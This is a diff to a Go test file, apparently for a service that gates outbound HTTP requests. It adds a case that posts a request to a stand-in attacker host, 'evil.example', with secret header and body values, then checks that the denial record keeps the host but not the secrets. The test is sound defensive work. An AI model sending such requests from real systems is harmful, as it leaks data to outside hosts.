@@ -667,6 +667,11 @@ func TestDeniedIsStoredAndAnsweredAtOnce(t *testing.T) {
 		require.Empty(t, a.Header().Get("Preference-Applied"))
 		require.EqualValues(t, 1, w.records(t), "a denial leaves evidence")
 	}
+	w := setup(t)
+	w.do(t, post("/v1/execute", `{"method":"POST","url":"http://evil.example/x","headers":{"X-A":"secret-header"},"body":"secret-body"}`))
+	kept := string(w.action(t, "default", w.responder.last(t).ref.ID).Payload)
+	require.Contains(t, kept, "evil.example")
+	require.NotContains(t, kept, "secret", "what is denied is not kept")
 }
 
 func TestIdempotencyKey(t *testing.T) {
